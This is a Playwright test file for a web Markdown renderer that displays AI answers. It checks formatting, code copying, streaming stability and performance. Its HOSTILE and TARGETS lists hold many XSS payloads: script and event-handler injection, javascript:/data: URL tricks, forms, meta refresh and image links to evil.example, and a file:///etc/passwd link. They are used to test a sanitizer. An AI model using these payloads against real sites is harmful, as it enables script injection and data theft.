"""Answers in Markdown: how they are shown, that they are harmless, and that they do not jump while they grow."""

from typing import Any

import pytest
from playwright.sync_api import Page, expect

OPEN = """
async () => {
    const { Markdown } = await import("/markdown.js");
    document.body.replaceChildren();
    const announcer = Object.assign(document.createElement("div"), { id: "announcer" });
    const text = document.createElement("div");
    document.body.append(text, announcer);
    window.markdown = new Markdown(text);
}
"""


class Shown:
    """A Markdown view in a page of its own."""

    def __init__(self, page: Page) -> None:
        self.page = page
        self.text = page.locator("body > div").first

    def show(self, text: str, *, unfinished: bool = False) -> str:
        """Returns the HTML that is shown."""
        html: str = self.page.evaluate(
            "([text, unfinished]) => (markdown.show(text, { unfinished }), markdown.element.innerHTML)",
            [text, unfinished],
        )
        return html


@pytest.fixture
def shown(modules: Page) -> Shown:
    modules.goto(f"{modules.url.rpartition('/')[0]}/style.css")  # which is an HTML document, of its own text
    modules.evaluate(OPEN)
    return Shown(modules)


EVERYTHING = """# A title

Text with **bold**, *italic*, ~~gone~~, `code` and a [link](https://example.com/a?b=1&c=2).
The next line.

3. one
4. two
   - deeper
   - [x] done

> quoted

| left | right |
| :--- | ---: |
| 1 | 2 |

```python
def f(a):
    return a < 1 and "&amp;"
```

***

![a picture](https://example.com/a.png)

Last."""


def test_what_a_model_writes_is_shown(shown: Shown) -> None:
    shown.show(EVERYTHING)
    text = shown.text
    expect(text.get_by_role("heading", level=3)).to_have_text("A title")
    for tag, content in [("strong", "bold"), ("em", "italic"), ("del", "gone"), ("p code", "code")]:
        expect(text.locator(tag)).to_have_text(content)
    expect(text.locator("br")).to_have_count(1)
    link = text.get_by_role("link", name="link")
    expect(link).to_have_attribute("href", "https://example.com/a?b=1&c=2")
    expect(link).to_have_attribute("rel", "noopener noreferrer nofollow")
    expect(link).to_have_attribute("target", "_blank")
    expect(text.locator("ol > li")).to_have_count(2)
    expect(text.locator("ol")).to_have_attribute("start", "3")
    expect(text.locator("ol ul li > p")).to_have_text(["deeper", "☑ done"])
    expect(text.locator("blockquote")).to_have_text("quoted")
    expect(text.get_by_role("columnheader")).to_have_text(["left", "right"])
    expect(text.get_by_role("cell").last).to_have_attribute("align", "right")
    assert text.locator("pre code").text_content() == 'def f(a):\n    return a < 1 and "&amp;"'
    expect(text.get_by_role("link", name="a picture")).to_have_attribute("href", "https://example.com/a.png")
    expect(text.locator("hr")).to_have_count(1)
    expect(text.locator("p").last).to_have_text("Last.")


def test_code_is_copied_as_it_is(shown: Shown) -> None:
    shown.page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    shown.show("- see\n\n  ```\n  a\n    <b>\n  ```\n")
    shown.text.get_by_role("button", name="Copy this code").click()
    expect(shown.page.locator("#announcer")).to_have_text("Copied")
    assert shown.page.evaluate("navigator.clipboard.readText()") == "a\n  <b>"


# fmt: off
HARMLESS = {
    "P", "BR", "HR", "H3", "H4", "H5", "H6", "UL", "OL", "LI", "BLOCKQUOTE", "PRE", "CODE", "EM", "STRONG", "DEL", "A",
    "TABLE", "THEAD", "TBODY", "TR", "TH", "TD", "DIV", "BUTTON",
}
# fmt: on
ATTRIBUTES = {"class", "href", "rel", "target", "start", "align", "tabindex", "type", "aria-label", "dir"}
FOUND = """() => {
    const all = [...markdown.element.querySelectorAll("*")];
    return {
        tags: [...new Set(all.map((it) => it.tagName))],
        attributes: [...new Set(all.flatMap((it) => it.getAttributeNames()))],
        links: all.map((it) => it.getAttribute("href")).filter((it) => it !== null),
        classes: [...new Set(all.map((it) => it.className).filter(Boolean))],
    };
}"""

LEFT_OUT = [
    "javascript:",
    "JaVaScRiPt:",
    "java\tscript:",
    " javascript:",
    "&#106;avascript:",
    "javascript&colon;",
    "vbscript:",
]
TARGETS = [
    *(f"{scheme}alert(1)" for scheme in LEFT_OUT),
    *(
        "data:text/html,<script>hurt=1</script>",
        "data:text/html;base64,PHNjcmlwdD4=",
        "blob:https://x/1",
        "file:///etc/passwd",
    ),
    *("//evil.example/", "/config.json", "#session", "relative", "filesystem:x", "https:evil", "\x01javascript:x"),
]
HOSTILE = [
    "<script>hurt = 1</script>",
    '<img src=x onerror="hurt = 1">',
    '<svg onload="hurt=1"><script>hurt=1</script></svg>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=hurt=1&gt;">',
    "<style>* { display: none }</style>",
    '<p style="position:fixed;inset:0" onclick="hurt=1">x</p>',
    "<link rel=stylesheet href=https://evil.example/x.css><base href=https://evil.example/>",
    "<form action=https://evil.example/><input name=token><button formaction=javascript:hurt=1>x</button></form>",
    '<iframe srcdoc="<script>parent.hurt=1</script>"></iframe><object data=x></object><embed src=x>',
    '<meta http-equiv=refresh content="0;url=https://evil.example/">',
    "<template><img src=x onerror=hurt=1></template><noscript><img src=x onerror=hurt=1></noscript>",
    '<a href="https://x" onmouseover="hurt=1" id=turns name=scroll>x</a><details open ontoggle=hurt=1>',
    '[x](https://x "title\\" onmouseover=\\"hurt=1")',
    '[x](<https://x/" onmouseover="hurt=1>)',
    "![x](https://evil.example/?secret)",
    '![x" onerror="hurt=1](x)',
    '```" onmouseover=hurt=1\n</code></pre><script>hurt=1</script>\n```',
    "`</code><img src=x onerror=hurt=1>`",
    "| a |\n| - |\n| <img src=x onerror=hurt=1> |",
    "# <svg/onload=hurt=1>",
    "- <b onclick=hurt=1>\n- </li></ul><script>hurt=1</script>",
    "[r]\n\n[r]: javascript:hurt=1 '<script>'",
    "<javascript:hurt=1> <data:text/html,x>",
    "&lt;script&gt;hurt=1&lt;/script&gt; &#60;img src=x onerror=hurt=1&#62;",
    *(f"[x]({target.replace('	', '&Tab;')}) ![y]({target})" for target in TARGETS),
    *(f"[x](<{target}>)\n\n[z]\n\n[z]: <{target}>" for target in TARGETS),
]


def test_a_hostile_answer_hurts_nobody(shown: Shown) -> None:
    requested: list[str] = []
    shown.page.on("request", lambda request: requested.append(request.url))
    for hostile in HOSTILE:
        for end in range(1, len(hostile) + 1, 7):  # also while it grows
            shown.show(hostile[:end], unfinished=True)
        shown.show(hostile)
        found: Any = shown.page.evaluate(FOUND)
        assert set(found["tags"]) <= HARMLESS, hostile
        assert set(found["attributes"]) <= ATTRIBUTES, hostile
        assert set(found["classes"]) <= {"block", "code", "plain copy", "table"}, hostile
        assert all(link.startswith(("https://", "mailto:")) for link in found["links"]), hostile
        for link in shown.text.locator("a").all():
            link.dispatch_event("mouseover")
    assert shown.page.evaluate("window.hurt") is None
    assert requested == []


@pytest.mark.parametrize(
    "hostile", [each for each in HOSTILE if each.startswith("<") and "javascript:hurt" not in each]
)
def test_html_in_an_answer_is_text(shown: Shown, hostile: str) -> None:
    shown.show(f"```\n{hostile}\n```\n\n{hostile}")
    assert shown.text.locator("code").text_content() == hostile
    visible = shown.text.locator("p").last.text_content() or ""
    assert visible.startswith(hostile.replace("&gt;", ">").replace("&lt;", "<")[:25])


HARD = {
    "quotes": ">",
    "lists": "1. ",
    "brackets": "[",
    "images": "![",
    "emphasis": "_a",
    "stars": "**a ",
    "links": "[a](",
    "backticks": "` `` ``` ```` ",
    "address": "a.",
    "spaces": " ",
    "tags": "<a ",
    "comments": "<!--",
    "cells": "|a",
    "long table": "| a | b |\n| - | - |\n",
    "references": "[r]: /u\n",
    "one long word": "x",
    "underline": "-",
    "lines": "a\n",
    "items": "* a\n\n",
    "fences": "```\n",
}


@pytest.mark.parametrize("unit", HARD.values(), ids=HARD)
def test_no_answer_keeps_the_page_busy(shown: Shown, unit: str) -> None:
    """It grows, as long answers do, and then it is read as a whole. 10,000 characters are the longest paragraph that is
    read as Markdown."""
    longest = shown.page.evaluate(
        """(unit) => {
            const times = [];
            for (const length of [9_900, 100_000]) {
                const text = "Seen.\\n\\na" + unit.repeat(length / unit.length) + "b";
                const bare = text.replace("\\na", "\\n");
                const growing = [0.25, 0.5, 0.75, 1].map((part) => text.slice(0, part * length));
                const shows = [
                    ...growing.map((part) => () => markdown.show(part, { unfinished: true })),
                    ...[text, bare].map((it) => () => new markdown.constructor(markdown.element.cloneNode()).show(it)),
                    () => markdown.show(text),
                ];
                for (const show of shows) {
                    const began = performance.now();
                    show();
                    times.push(performance.now() - began);
                }
            }
            return Math.max(...times);
        }""",
        unit,
    )
    assert longest < 6000, "ms, on a busy machine; without bounds some take a minute"
    assert (shown.text.text_content() or "").startswith("Seen.")


def test_lists_in_lists_in_lists_are_cheap(shown: Shown) -> None:
    began = shown.page.evaluate("performance.now()")
    shown.show("\n".join("  " * depth + "- a" for depth in range(200)))
    assert shown.page.evaluate("performance.now()") - began < 6000, "ms, on a busy machine"
    expect(shown.text).to_contain_text("a")


GROWING = EVERYTHING.replace("Last.", "Last, a [link](https://example.com/) and\n\n- a\n- b\n\n- c\n\n```\nx\ny\n```")

WATCH = """() => {
    window.removed = [];
    new MutationObserver((records) => {
        for (const { removedNodes, target } of records) {
            for (const node of removedNodes) removed.push(`${node.nodeName} ${node.textContent}`);
        }
    }).observe(markdown.element, { childList: true, subtree: true });
}"""


def test_a_finished_block_is_never_written_anew(shown: Shown) -> None:
    shown.page.evaluate(WATCH)
    shown.show("A **first** block.\n\n```\ncode\n```\n\n", unfinished=True)
    shown.page.evaluate("window.kept = [...document.querySelectorAll('.block *')]")
    for end in range(1, len(GROWING) + 1):
        shown.show("A **first** block.\n\n```\ncode\n```\n\n" + GROWING[:end], unfinished=True)
    shown.show("A **first** block.\n\n```\ncode\n```\n\n" + GROWING)
    assert shown.page.evaluate("kept.length") > 3
    assert shown.page.evaluate("kept.every((it) => it.isConnected)")
    assert not [each for each in shown.page.evaluate("removed") if "first" in each or "code" in each.split()[1:]]


def test_growing_ends_as_if_it_had_come_at_once(shown: Shown) -> None:
    for step in (1, 3, 10):
        shown.page.evaluate(OPEN)
        for end in range(0, len(GROWING), step):
            shown.show(GROWING[:end], unfinished=True)
        grown = shown.show(GROWING)
        shown.page.evaluate(OPEN)
        assert grown == shown.show(GROWING)


@pytest.mark.parametrize("syntax", ["**bold**", "*italic*", "`code`", "~~gone~~"])
def test_marks_that_are_not_closed_yet_are_not_seen(shown: Shown, syntax: str) -> None:
    """The text only grows: nothing is shown that goes away."""
    before = ""
    text = f"Some words {syntax} and more\n"
    for end in range(1, len(text) + 1):
        shown.show(text[:end], unfinished=True)
        now = (shown.text.text_content() or "").rstrip()
        assert now.startswith(before), text[:end]
        if end > text.index(syntax) + 4:
            before = now
    assert before == "Some words " + syntax.strip("*`~") + " and more"


SELECT = """() => {
    const nodes = document.createTreeWalker(markdown.element, NodeFilter.SHOW_TEXT);
    let last;
    while (nodes.nextNode()) if (nodes.currentNode.data.trim()) last = nodes.currentNode;
    getSelection().setBaseAndExtent(last, 2, last, 8);
    return String(getSelection());
}"""


@pytest.mark.parametrize("before", ["", "# ", "- one\n- ", "> ", "```\n", "1. a\n\n   "], ids=str.strip)
def test_a_selection_stays_while_its_block_grows(shown: Shown, before: str) -> None:
    shown.show(f"{before}selected words", unfinished=True)
    selected = shown.page.evaluate(SELECT)
    assert len(selected) == 6
    text = f"{before}selected words and **more** and `more`"
    for end in range(len(before) + 14, len(text) + 1):
        shown.show(text[:end], unfinished=True)
        assert shown.page.evaluate("String(getSelection())") == selected
    shown.show(f"{text}\n\nAnd a block.")
    assert shown.page.evaluate("String(getSelection())") == selected


def test_a_selection_stays_when_its_list_becomes_loose(shown: Shown) -> None:
    shown.show("- selected words", unfinished=True)
    selected = shown.page.evaluate(SELECT)
    shown.show("- selected words\n- b\n\n- c")
    assert shown.page.evaluate("String(getSelection())") == selected


def test_code_keeps_its_scroll_position_and_the_focus(shown: Shown) -> None:
    line = "x" * 400
    shown.page.add_style_tag(url="/style.css")
    shown.show(f"```\n{line}\n", unfinished=True)
    shown.text.locator("pre").evaluate("(it) => { it.scrollLeft = 300; it.focus(); }")
    for end in range(10, 400, 40):
        shown.show(f"```\n{line}\n{line[:end]}", unfinished=True)
    shown.show(f"```\n{line}\n{line}\n```\nDone.")
    assert shown.text.locator("pre").evaluate("(it) => it.scrollLeft") == 300
    expect(shown.text.locator("pre")).to_be_focused()
